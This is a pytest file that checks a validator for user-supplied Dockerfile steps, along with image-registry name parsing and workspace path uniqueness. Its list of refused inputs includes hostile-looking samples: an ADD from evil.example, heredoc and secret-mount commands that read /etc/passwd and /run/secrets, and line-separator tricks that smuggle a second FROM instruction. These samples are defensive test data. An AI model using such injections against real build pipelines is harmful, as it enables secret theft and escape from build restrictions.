"""What people may add to the Dockerfile of an image, and how images are called."""

from __future__ import annotations

import pytest

from keelway.contracts.images import checked_steps, named_registry, path_in_registry

TAKEN = [
    "",
    "RUN apt-get update && apt-get install -y libgomp1",
    "run echo lower",
    '# a comment\nRUN echo one \\\n    # amid\n\n    && echo two\nENV A=b C="d e"\nARG X=y\nLABEL z=1',
    'RUN ["/bin/sh", "-c", "echo exec"]',
    "RUN test 3 -lt 4 <input",
]
REFUSED = [
    *(
        "FROM other",
        "COPY a b",
        "ADD http://evil.example/x /",
        "USER 0",
        "ENTRYPOINT x",
        "CMD x",
        "WORKDIR /",
        "SHELL x",
    ),
    *("HEALTHCHECK NONE", "EXPOSE 1", "VOLUME /x", "ONBUILD RUN x", "STOPSIGNAL 9", "MAINTAINER me", "echo x", "RUN"),
    "RUN echo one\nCOPY --from=other / /",
    "RUN --mount=type=secret,id=x cat /run/secrets/x",
    "RUN \\\n  --security=insecure x",
    "RUN <<EOF\ncat /etc/passwd\nEOF",
    "RUN cat <<-'END'\nx\nEND",
    "# syntax=evil.example/frontend",
    "# escape=`\nRUN x",
    "RUN echo x\r\nFROM y",
    "RUN echo x\u2028FROM y",
    "RUN echo \u202ex",
    "RUN echo \0",
    "RUN echo goes on \\",
]


@pytest.mark.parametrize("text", TAKEN)
def test_steps_that_change_only_the_image_are_taken_as_they_are(text):
    assert checked_steps(text) == text


@pytest.mark.parametrize("text", REFUSED)
def test_steps_that_reach_further_are_refused(text):
    with pytest.raises(ValueError, match=r"taken|missing"):
        checked_steps(text)


@pytest.mark.parametrize(
    ("image", "registry"),
    [
        ("python:3.11-slim", "docker.io"),
        ("library/python", "docker.io"),
        ("r.example/x:1", "r.example"),
        ("localhost/x", "localhost"),
        ("r:5000/team/x@sha256:12", "r:5000"),
    ],
)
def test_a_name_says_its_registry(image, registry):
    assert named_registry(image) == registry


def test_a_workspace_has_a_place_in_a_registry_that_no_other_has():
    names = ["default", "a.b", "a..b", "a--b", "a-", "x" * 255]

    paths = [path_in_registry(name, "package:1") for name in names]

    assert paths[:2] == ["default/package:1", "a.b/package:1"]
    assert len(set(paths)) == len(names)
    assert all(part.strip("-.") == part and ".." not in part for path in paths for part in path.split("/")[:-1])
